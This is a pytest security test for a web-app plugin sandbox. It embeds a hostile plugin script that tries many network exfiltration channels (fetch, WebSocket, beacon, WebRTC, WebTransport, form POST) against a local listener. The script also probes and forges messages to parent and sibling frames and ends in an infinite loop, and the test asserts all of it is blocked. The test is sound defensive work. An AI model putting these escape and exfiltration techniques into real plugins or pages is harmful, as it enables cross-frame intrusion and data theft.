"""A Web App 3 plugin in its sandboxed iframe (an opaque origin) reaches neither the network, nor the app's page and
the harness, nor another plugin's channel; forged app replies and calls go nowhere; and a plugin that loops in its
frame is caught by the watchdog like one in the page."""

from __future__ import annotations

import pytest
from qtasync import harness, run, wait_for
from webapp3_projects import branding

from tests.security.listeners import Listener
from workbench.registry import open_project
from workbench.sandbox.session import SessionSetup

pytestmark = [pytest.mark.qt, pytest.mark.webengine]

EVIL = r"""
var reg = await call('syn', {id: 'evil', version: 1});
var u = 'http://127.0.0.1:PORT/';
fetch(u + 'fetch').catch(function () {});
try { new WebSocket('ws://127.0.0.1:PORT/ws'); } catch (e) {}
navigator.sendBeacon(u + 'beacon', 'x');
var img = new Image(); img.src = u + 'img.png'; document.body.appendChild(img);
try { var pc = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'secret',
  credential: 'x'}]}); pc.createDataChannel('x'); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
} catch (e) {}
try { new WebTransport('https://127.0.0.1:PORT/wt'); } catch (e) {}
try { var f = document.createElement('form'); f.method = 'POST'; f.action = u + 'form'; document.body.appendChild(f); f.submit(); } catch (e) {}
try { window.open(u + 'open'); } catch (e) {}
try { top.location.href = u + 'top'; } catch (e) {}
var reach = [];
try { reach.push(typeof parent.WBKit); } catch (e) { reach.push('blocked'); }
try { reach.push(typeof parent.document.body); } catch (e) { reach.push('blocked'); }
try { reach.push(typeof parent.frames[1].document); } catch (e) { reach.push('blocked'); }
parent.frames[1].postMessage({event: 'ui:button:click', payload: {buttonId: 'forged'}, chanId: 'guess'}, '*');
parent.postMessage({rpc: 'ui:toast:show', id: 'z', chanId: 'guess', payload: {message: 'forged toast'}}, '*');
console.log('reach: ' + reach.join(' '));
setTimeout(function () { console.log('looping now'); while (true) {} }, 800);
"""
GOOD = "await call('syn', {id: 'good', version: 1}); on(function (e) { if (e === 'ui:button:click') " \
       "call('ui:toast:show', {message: 'good was clicked'}); });"


def test_a_sandboxed_plugin_frame_reaches_nothing_and_its_loop_is_caught(tmp_path):
    target = Listener("tcp")
    root = branding(tmp_path / "p", {"evil": EVIL.replace("PORT", str(target.port)), "good": GOOD})
    host, project = open_project(root)
    session = host.create_session(project, SessionSetup())
    try:
        run(session.start(), 30000)
        console = lambda: " ".join(e.message for e in session.log.of_kind("console"))  # noqa: E731
        assert wait_for(lambda: "reach: blocked blocked blocked" in console(), 10000), console()
        toasts = harness(session, "WBH.extensions.webapp3.toasts()") or []
        assert not any("forged" in t["text"] or "good was clicked" in t["text"] for t in toasts), toasts
        assert wait_for(lambda: any(e.data.get("hang") for e in session.log.errors()), 15000), session.log.tail()
        assert target.hits == []
        network = " ".join(e.message for e in session.log.of_kind("network"))
        assert all(f"{target.port}/{what}" in network for what in ("fetch", "ws", "beacon", "img.png")), network
        assert "RTCPeerConnection" in network and "WebTransport" in network
    finally:
        session.close()
        target.close()
